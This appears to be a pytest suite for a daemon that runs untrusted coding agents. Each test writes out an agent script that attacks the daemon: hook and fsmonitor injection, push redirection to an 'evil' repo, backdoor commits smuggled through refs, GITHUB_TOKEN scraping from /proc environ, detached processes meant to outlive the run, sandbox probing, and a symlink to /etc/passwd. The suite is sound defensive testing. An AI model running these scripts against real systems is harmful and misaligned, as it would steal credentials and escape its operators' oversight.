"""Attacks by an agent on ticketd itself, each on a real daemon: it must fail closed.

The agent is untrusted code steered by ticket text. It tries to run code inside ticketd's own
git (hooks, fsmonitor), redirect pushes, smuggle commits through refs, read the daemon's
token, leave processes behind, write outside its checkout, change CI or git's own files, and
print secrets. Each test is the attack as an agent (a small script) or a model reply would
make it, run by ``ticketd run --once`` or a daemon, with the sandbox on (where bubblewrap
works) and, for what ticketd's own git must withstand by itself, with it off.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import sqlite3
import subprocess
import textwrap
import uuid
from pathlib import Path

import psutil
import pytest
from conftest import PY, Daemon, Project, git, ticketd, wait_until
from fake_ollama import FakeOllama

from daemon.sandbox import find_bwrap

NO_SANDBOX = "bubblewrap is not available here: apt install bubblewrap"
needs_sandbox = pytest.mark.skipif(find_bwrap() is None, reason=NO_SANDBOX)
BOTH = pytest.mark.parametrize(
    "sandbox", [pytest.param("required", marks=needs_sandbox), pytest.param("off")]
)
TOKEN = "ghp_" + "Qm7ContainTestToken0123456789abcdefXY"


def script(body: str) -> list[str]:
    """An agent.command running this Python code (braces escaped: no placeholders)."""
    code = textwrap.dedent(body).replace("{", "{{").replace("}", "}}")
    return [PY, "-c", code]


def once(project: Project, *, env: dict[str, str] | None = None) -> int:
    result = ticketd("run", "--once", "--config", str(project.config_path), env=env, timeout=120)
    assert result.returncode != 2, result.stderr
    return result.returncode


def tree(project: Project, branch: str) -> list[str]:
    return git(project.remote, "ls-tree", "-r", "--name-only", branch).split()


def pushed_text(project: Project) -> str:
    """Every file of every branch on the remote, as one text."""
    out = []
    for branch in project.remote_branches():
        for name in tree(project, branch):
            out.append(git(project.remote, "show", f"{branch}:{name}"))
    return "\n".join(out)


@BOTH
def test_hooks_fsmonitor_and_pushurl_never_run_or_redirect_our_git(
    project: Project, tmp_path: Path, sandbox: str
) -> None:
    marker, evil = tmp_path / "ran", tmp_path / "evil.git"
    git(tmp_path, "init", "--quiet", "--bare", str(evil))
    # Without a sandbox an agent acts as the user and could edit the user's own repository
    # for the next start; in the sandbox it tries, and cannot reach it.
    repos = [".", str(project.repo)] if sandbox == "required" else ["."]
    attack = script(f"""
        import os, subprocess
        def git(*a, cwd=None):
            try:
                done = subprocess.run(["git", *a], capture_output=True, text=True, cwd=cwd)
            except OSError:  # the sandbox hides the user's repository
                return ""
            return done.stdout.strip()
        for repo in {repos!r}:  # its checkout (and the user's repository)
            common = git("rev-parse", "--path-format=absolute", "--git-common-dir", cwd=repo)
            hooks = os.path.join(common, "hooks")
            for name in ("pre-commit", "post-commit", "pre-push", "reference-transaction",
                         "post-checkout", "post-index-change", "pre-auto-gc"):
                try:
                    os.makedirs(hooks, exist_ok=True)
                    with open(os.path.join(hooks, name), "w") as f:
                        f.write("#!/bin/sh\\necho $0 >> {marker}\\nenv >> {marker}\\n")
                    os.chmod(os.path.join(hooks, name), 0o755)
                except OSError:
                    pass
            git("config", "core.fsmonitor", "echo fsmonitor >> {marker}; false", cwd=repo)
            git("config", "core.hooksPath", hooks, cwd=repo)
            git("config", "remote.origin.pushurl", {str(evil)!r}, cwd=repo)
            git("config", "remote.origin.url", {str(evil)!r}, cwd=repo)
        open("feature.txt", "w").write("feature\\n")
    """)
    project.write_config(agent={"command": attack, "sandbox": sandbox})
    project.ticket("task-1 - Attack.md")
    assert once(project, env={"GITHUB_TOKEN": TOKEN}) == 0
    project.write_config(agent={"sandbox": sandbox})  # an innocent agent, the next ticket
    project.ticket("task-2 - Innocent.md")
    assert once(project, env={"GITHUB_TOKEN": TOKEN}) == 0

    assert project.where() == {"done": ["task-1 - Attack.md", "task-2 - Innocent.md"]}
    assert not marker.exists(), marker.read_text()[:500]
    assert git(evil, "for-each-ref") == ""  # nothing went to the other repository
    assert "feature.txt" in tree(project, "ticketd/task-1-attack")
    assert "task-2.txt" in tree(project, "ticketd/task-2-innocent")


@BOTH
def test_a_moved_main_never_smuggles_a_commit_into_the_next_ticket(
    project: Project, sandbox: str
) -> None:
    attack = script(f"""
        import subprocess
        def git(*a):
            return subprocess.run(["git", *a], capture_output=True, text=True).stdout.strip()
        open("backdoor.py", "w").write("import os; os.system('id')\\n")
        git("add", "backdoor.py")
        git("-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "backdoor")
        head = git("rev-parse", "HEAD")
        git("update-ref", "refs/heads/main", head)  # its own repository
        # and the user's repository's main (ticketd bases tickets on the remote's)
        subprocess.run(["git", "-C", {str(project.repo)!r}, "fetch", "-q", ".", "HEAD"],
                       capture_output=True)
        subprocess.run(["git", "-C", {str(project.repo)!r}, "update-ref", "refs/heads/main",
                        head], capture_output=True)
    """)
    project.write_config(agent={"command": attack, "sandbox": sandbox})
    project.ticket("task-1 - Attack.md")
    assert once(project) == 0
    project.write_config(agent={"sandbox": sandbox})  # the innocent agent
    project.ticket("task-2 - Innocent.md")
    assert once(project) == 0

    assert sorted(tree(project, "ticketd/task-2-innocent")) == ["README.md", "task-2.txt"]
    # the attack's own branch carries its file: it was in the diff the gates saw
    assert "backdoor.py" in tree(project, "ticketd/task-1-attack")


@BOTH
def test_the_daemons_token_never_leaves_whatever_the_agent_reads(
    project: Project, sandbox: str
) -> None:
    attack = script("""
        import base64, glob
        found = set()
        import os
        for path in ["/proc/%d/environ" % os.getppid(), *glob.glob("/proc/*/environ")]:
            try:
                data = open(path, "rb").read()
            except OSError:
                continue
            for item in data.split(b"\\0"):
                if item.startswith(b"GITHUB_TOKEN="):
                    found.add(item.split(b"=", 1)[1])
        with open("stolen.txt", "w") as f:
            f.write("looked\\n")
            for value in found:
                f.write(base64.b64encode(value).decode() + "\\n")
    """)
    project.write_config(agent={"command": attack, "sandbox": sandbox})
    project.ticket("task-1 - Steal.md")

    code = once(project, env={"GITHUB_TOKEN": TOKEN})

    encoded = base64.b64encode(TOKEN.encode()).decode()
    text = pushed_text(project)
    assert TOKEN not in text and encoded not in text
    where = project.where()
    if where == {"review": ["task-1 - Steal.md"]}:  # it got the token: the gate held it
        held = json.loads((project.folder("review") / "task-1 - Steal.review.json").read_text())
        assert held["reason"] == "SECRET_DETECTED"
        assert project.remote_branches() == ["main"]
    else:
        assert code == 0 and where == {"done": ["task-1 - Steal.md"]}
        assert "stolen.txt" in tree(project, "ticketd/task-1-steal")
    for path in project.root.rglob("*"):
        if path.is_file() and ".git" not in path.parts:
            data = path.read_bytes()
            assert TOKEN.encode() not in data and encoded.encode() not in data, path


@needs_sandbox
def test_in_the_sandbox_the_daemons_environment_and_state_are_out_of_reach(
    project: Project, fake_github: object, tmp_path: Path
) -> None:
    project.ticket("task-9 - Other.md", folder="review")
    targets = {
        "environ": f"/proc/{os.getpid()}/environ",
        "history": str(project.root / "state" / "history.sqlite3"),
        "log": str(project.root / "logs" / "ticketd.log"),
        "other-ticket": str(project.folder("review") / "task-9 - Other.md"),
        "config": str(project.config_path),
        "user-repo": str(project.repo / ".git" / "config"),
    }
    port = fake_github.port  # type: ignore[attr-defined]
    attack = script(f"""
        import json, os, socket
        seen = {{}}
        for name, path in {targets!r}.items():
            try:
                open(path, "rb").read(1)
                seen[name] = "read"
            except OSError as e:
                seen[name] = "denied"
        for name, path in (("etc", "/etc/ticketd-pwned"), ("home", os.path.expanduser("~/.pwned")),
                           ("user-repo-write", {str(project.repo / "pwned")!r})):
            try:
                open(path, "w").write("x")
                seen[name] = "written"
            except OSError:
                seen[name] = "denied"
        try:
            socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
            seen["network"] = "connected"
        except OSError:
            seen["network"] = "denied"
        seen["processes"] = len([p for p in os.listdir("/proc") if p.isdigit()])
        open("seen.json", "w").write(json.dumps(seen))
    """)
    project.write_config(agent={"command": attack, "sandbox": "required"})
    project.ticket("task-1 - Look.md")

    assert once(project, env={"GITHUB_TOKEN": TOKEN}) == 0

    seen = json.loads(git(project.remote, "show", "ticketd/task-1-look:seen.json"))
    assert seen.pop("processes") < 10  # its own PID namespace
    assert set(seen.values()) == {"denied"}, seen
    assert not (project.repo / "pwned").exists()


@BOTH
def test_no_process_of_the_agent_outlives_its_run(project: Project, sandbox: str) -> None:
    mark = f"ticketd-escapee-{uuid.uuid4().hex}"
    attack = script(f"""
        import subprocess, sys
        for argv in (["setsid", {PY!r}, "-c", "import time; time.sleep(300)", {mark!r}],
                     ["env", "-i", "setsid", {PY!r}, "-c", "import time; time.sleep(300)",
                      {mark!r}]):
            subprocess.Popen(argv, start_new_session=True, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        open("feature.txt", "w").write("x\\n")
    """)
    project.write_config(agent={"command": attack, "sandbox": sandbox})
    project.ticket("task-1 - Escape.md")

    assert once(project) == 0

    def escapees() -> list[psutil.Process]:
        found = []
        for proc in psutil.process_iter(["cmdline"]):
            if mark in (proc.info["cmdline"] or []):
                found.append(proc)
        return found

    left = escapees()
    for proc in left:
        proc.kill()
    assert not left, f"{len(left)} process(es) outlived the run"


@needs_sandbox
def test_a_killed_daemon_takes_its_agents_sandbox_with_it(
    project: Project, daemons: list, tmp_path: Path
) -> None:
    mark = f"ticketd-escapee-{uuid.uuid4().hex}"
    attack = script(f"""
        import subprocess, time
        subprocess.Popen(["setsid", {PY!r}, "-c", "import time; time.sleep(300)", {mark!r}],
                         start_new_session=True, stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(300)
    """)
    project.write_config(agent={"command": attack, "sandbox": "required", "timeout_s": 600})
    project.ticket("task-1 - Linger.md")

    def escapees() -> list[psutil.Process]:
        return [p for p in psutil.process_iter(["cmdline"]) if mark in (p.info["cmdline"] or [])]

    daemons.append(d := Daemon(project))
    wait_until(escapees, what="the agent's escapee to start")
    d.proc.kill()
    d.wait()
    wait_until(lambda: not escapees(), timeout=15, what="the sandbox to end with the daemon")
    # and the next start puts the ticket back
    project.write_config(agent={"sandbox": "required"})
    daemons.append(Daemon(project, name="again"))
    wait_until(lambda: project.where() == {"done": ["task-1 - Linger.md"]}, what="recovery")


@needs_sandbox
def test_model_written_code_run_by_checks_cannot_write_outside(
    project: Project, fake_ollama: FakeOllama, tmp_path: Path
) -> None:
    outside = [tmp_path / "escaped", project.repo / "escaped", project.root / "state" / "x"]
    evil = "".join(
        f"try:\n    open({str(p)!r}, 'w').write('x')\nexcept OSError:\n    pass\n" for p in outside
    )
    reply = "evil.py\n```python\n<<<<<<< SEARCH\n=======\n" + evil + ">>>>>>> REPLACE\n```\n"
    fake_ollama.reply(reply)
    project.write_config(
        agent={"kind": "builtin", "sandbox": "required", "max_reflections": 0},
        ollama={"host": fake_ollama.url, "models": ["qwen2.5-coder:7b"], "retries": 0},
        checks=[{"name": "import", "run": [PY, "-c", "import evil"], "timeout_s": 60}],
    )
    project.ticket("task-1 - Evil.md")

    assert once(project) == 0

    assert "evil.py" in tree(project, "ticketd/task-1-evil")
    for path in outside:
        assert not path.exists(), path


@pytest.mark.parametrize(
    ("path", "why"),
    [
        (".github/workflows/ci.yml", "matches repo.sensitive_paths"),
        (".gitmodules", "matches repo.sensitive_paths"),
        ("sub/.gitattributes", "matches repo.sensitive_paths"),
        ("link", "outside the repository"),
    ],
)
def test_sensitive_paths_are_held_for_a_person(project: Project, path: str, why: str) -> None:
    make = (
        "import os; os.symlink('/etc/passwd', 'link')"
        if path == "link"
        else f"import os; os.makedirs(os.path.dirname({path!r}) or '.', exist_ok=True); "
        f"open({path!r}, 'w').write('x: 1\\n')"
    )
    project.write_config(agent={"command": [PY, "-c", make]})
    project.ticket("task-1 - Touch.md")

    assert once(project) == 0

    assert project.where() == {"review": ["task-1 - Touch.md"]}
    held = json.loads((project.folder("review") / "task-1 - Touch.review.json").read_text())
    assert held["reason"] == "SENSITIVE_PATH" and held["stage"] == "paths"
    assert held["paths"][0]["path"] == path and why in held["paths"][0]["reason"]
    assert project.remote_branches() == ["main"]


def test_a_submodule_the_agent_adds_is_held(project: Project) -> None:
    attack = script("""
        import subprocess
        subprocess.run(["git", "init", "-q", "vendor"], check=True)
        open("vendor/x", "w").write("x")
        subprocess.run(["git", "-C", "vendor", "add", "x"], check=True)
        subprocess.run(["git", "-C", "vendor", "-c", "user.name=x", "-c", "user.email=x@x",
                        "commit", "-qm", "x"], check=True)
    """)
    project.write_config(agent={"command": attack})
    project.ticket("task-1 - Sub.md")
    assert once(project) == 0
    held = json.loads((project.folder("review") / "task-1 - Sub.review.json").read_text())
    assert held["reason"] == "SENSITIVE_PATH" and "submodule" in held["paths"][0]["reason"]
    assert project.remote_branches() == ["main"]


def aws_key() -> str:
    return "AKIA" + "Z7QW4PLM2XN5RT8V"


def private_key() -> str:
    body = base64.b64encode(bytes(range(256)) * 3).decode()
    lines = [body[i : i + 64] for i in range(0, len(body), 64)]
    return "\n".join(["-----BEGIN RSA PRIVATE KEY-----", *lines, "-----END RSA PRIVATE KEY-----"])


def test_secrets_an_agent_prints_reach_no_file_log_history_or_endpoint(
    project: Project, daemons: list
) -> None:
    pat = "ghp_" + "R8kLm2Nq4Wx6Zt9Pb1Cd3Fg5Hj7Kl0Mn2Qr4"
    key = private_key()
    attack = script(f"""
        import sys
        print("AWS_ACCESS_KEY_ID={aws_key()}")
        print({key!r})
        sys.exit("failed with token {pat} and key {aws_key()}")
    """)
    project.write_config(
        agent={"command": attack},
        server={"enabled": True, "port": 0},
        logging={"json": True, "level": "DEBUG"},
    )
    project.ticket("task-1 - Leak.md", title=f"Rotate {aws_key()}")
    daemons.append(d := Daemon(project))
    wait_until(lambda: project.where() == {"failed": ["task-1 - Leak.md"]}, what="the failure")
    url = wait_until(lambda: _served(d), what="the server")
    import urllib.request

    status = urllib.request.urlopen(url + "/status", timeout=10).read().decode()
    d.stop()
    secrets = [aws_key(), pat, *key.splitlines()[1:-1]]
    err = (project.folder("failed") / "task-1 - Leak.error.json").read_text()
    history = sqlite3.connect(project.root / "state" / "history.sqlite3")
    rows = json.dumps(history.execute("SELECT * FROM runs").fetchall())
    history.close()
    texts = {
        ".error.json": err,
        "/status": status,
        "history": rows,
        "ticketd.log": (project.root / "logs" / "ticketd.log").read_text(),
        "agent.log": (project.root / "logs" / "tasks" / "task-1.agent.log").read_text(),
        "task log": (project.root / "logs" / "tasks" / "task-1.log").read_text(),
    }
    for where, text in texts.items():
        for secret in secrets:
            assert secret not in text, f"{secret[:8]}… in {where}"
    assert "failed with token" in json.loads(err)["error"]


def _served(d: Daemon) -> str | None:
    import re

    m = re.search(r"serving .* on (http://\S+)", d.text())
    return m[1] if m else None


def test_required_sandbox_without_bubblewrap_refuses_to_start(
    project: Project, tmp_path: Path
) -> None:
    bin_dir = tmp_path / "bin"  # a PATH with git but no bwrap
    bin_dir.mkdir()
    (bin_dir / "git").symlink_to(shutil.which("git") or "/usr/bin/git")
    project.ticket("task-1 - Wait.md")
    env = {"PATH": str(bin_dir)}

    project.write_config(agent={"sandbox": "required"})
    refused = ticketd("run", "--once", "--config", str(project.config_path), env=env)
    assert refused.returncode == 2
    assert "agent.sandbox is required but bubblewrap cannot run here" in refused.stderr
    assert "apt install bubblewrap" in refused.stderr
    assert project.where() == {"todo": ["task-1 - Wait.md"]}

    project.write_config(agent={"sandbox": "auto", "command": [PY, "-c", "open('x', 'w')"]})
    ran = ticketd("run", "--once", "--config", str(project.config_path), env=env)
    assert ran.returncode == 0, ran.stderr
    assert "agents run without a sandbox: bwrap is not installed" in ran.stderr


def test_the_daemon_hides_its_memory_and_adopts_orphans() -> None:
    # What `ticketd run` does first: non-dumpable (other processes of the same user cannot
    # read /proc/<pid>/environ or its memory) and the subreaper of its descendants.
    probe = textwrap.dedent("""
        import ctypes
        from daemon import procs
        libc = ctypes.CDLL(None)
        before = libc.prctl(3, 0, 0, 0, 0)  # PR_GET_DUMPABLE
        procs.harden_self()
        after = libc.prctl(3, 0, 0, 0, 0)
        flag = ctypes.c_int(0)
        libc.prctl(37, ctypes.byref(flag), 0, 0, 0)  # PR_GET_CHILD_SUBREAPER
        print(before, after, flag.value)
    """)
    done = subprocess.run([PY, "-c", probe], capture_output=True, text=True, timeout=60)
    assert done.stdout.split() == ["1", "0", "1"], done.stderr


@needs_sandbox
def test_allowed_hosts_are_reached_through_the_proxy_and_others_refused(
    project: Project, fake_github: object
) -> None:
    port = fake_github.port  # type: ignore[attr-defined]
    attack = script(f"""
        import json, os, socket
        proxy = os.environ["HTTPS_PROXY"].removeprefix("http://")
        host, _, proxy_port = proxy.rpartition(":")
        seen = {{}}
        for target in ("127.0.0.1:{port}", "127.0.0.1:1"):
            s = socket.create_connection((host, int(proxy_port)), timeout=5)
            s.sendall(f"CONNECT {{target}} HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n".encode())
            seen[target] = s.recv(100).decode().split("\\r\\n")[0]
            s.close()
        open("seen.json", "w").write(json.dumps(seen))
    """)
    project.write_config(
        agent={"command": attack, "sandbox": "required", "allow_hosts": [f"127.0.0.1:{port}"]}
    )
    project.ticket("task-1 - Reach.md")

    assert once(project) == 0

    seen = json.loads(git(project.remote, "show", "ticketd/task-1-reach:seen.json"))
    assert seen[f"127.0.0.1:{port}"].split()[1] == "200"
    assert seen["127.0.0.1:1"].split()[1] == "403"
    log = (project.root / "logs" / "tasks" / "task-1.log").read_text()
    assert "the sandbox refused 127.0.0.1:1 (not in agent.allow_hosts)" in log
